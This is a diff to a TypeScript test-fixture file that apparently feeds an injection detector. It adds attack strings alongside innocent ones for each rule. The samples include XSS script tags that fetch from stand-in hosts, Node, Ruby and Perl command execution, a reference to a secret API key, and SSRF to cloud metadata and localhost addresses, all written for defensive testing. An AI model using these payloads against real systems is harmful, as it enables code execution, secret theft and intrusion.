@@ -48,7 +48,7 @@ export const ruleCases: Readonly<Record<string, { attacks: readonly string[]; in
     innocent: ["the `<svg>` element", "What is an <iframe> for?", "2 <object> 3"],
   },
   "xss/script-element": {
-    attacks: ["<script>fetch('//x.example')</script>", "<script/src=//x.example>"],
+    attacks: ["<script:x src=//a.example>", "<script>fetch('//x.example')</script>", "<script/src=//x.example>"],
     innocent: ["What does `<script>` do?"],
   },
   "xss/event-handler": {
@@ -159,10 +159,10 @@ export const ruleCases: Readonly<Record<string, { attacks: readonly string[]; in
   "code/hidden-call": { attacks: ["exec/*a*/('id')"], innocent: ["/* a comment */ (b)"] },
   "code/bare-code": { attacks: ["alert(4)", "phpinfo();", "process.exit(4)"], innocent: ["What does alert(4) do?", "import a from b"] },
   "code/node-function": { attacks: ["_$$ND_FUNC$$_function(){}"], innocent: ["a function in Node"] },
-  "code/node-run": { attacks: ["x=require('child_process').exec('id')"], innocent: ["require('./a.js')"] },
+  "code/node-run": { attacks: ["x=require('child_process').exec('id')", "x process.env.API_KEY"], innocent: ["require('./a.js')"] },
   "code/endless-loop": { attacks: ["while(!'');"], innocent: ["while (!done) {"] },
   "code/perl-interpolation": { attacks: ["@{[system 'id']}"], innocent: ["@{user} [x]"] },
-  "code/ruby-run": { attacks: ["Process.spawn('id')"], innocent: ["process of spawning"] },
+  "code/ruby-run": { attacks: ["Process.spawn('id')", "x %x(id)"], innocent: ["process of spawning"] },
   "ssrf/cloud-metadata": { attacks: ["http://169.254.169.254/latest"], innocent: ["What is metadata?"] },
   "ssrf/inner-host": { attacks: ["see http://a.internal/b", "gopher://127.0.0.1:9/_a"], innocent: ["internal affairs"] },
   "ssrf/bare-address": {
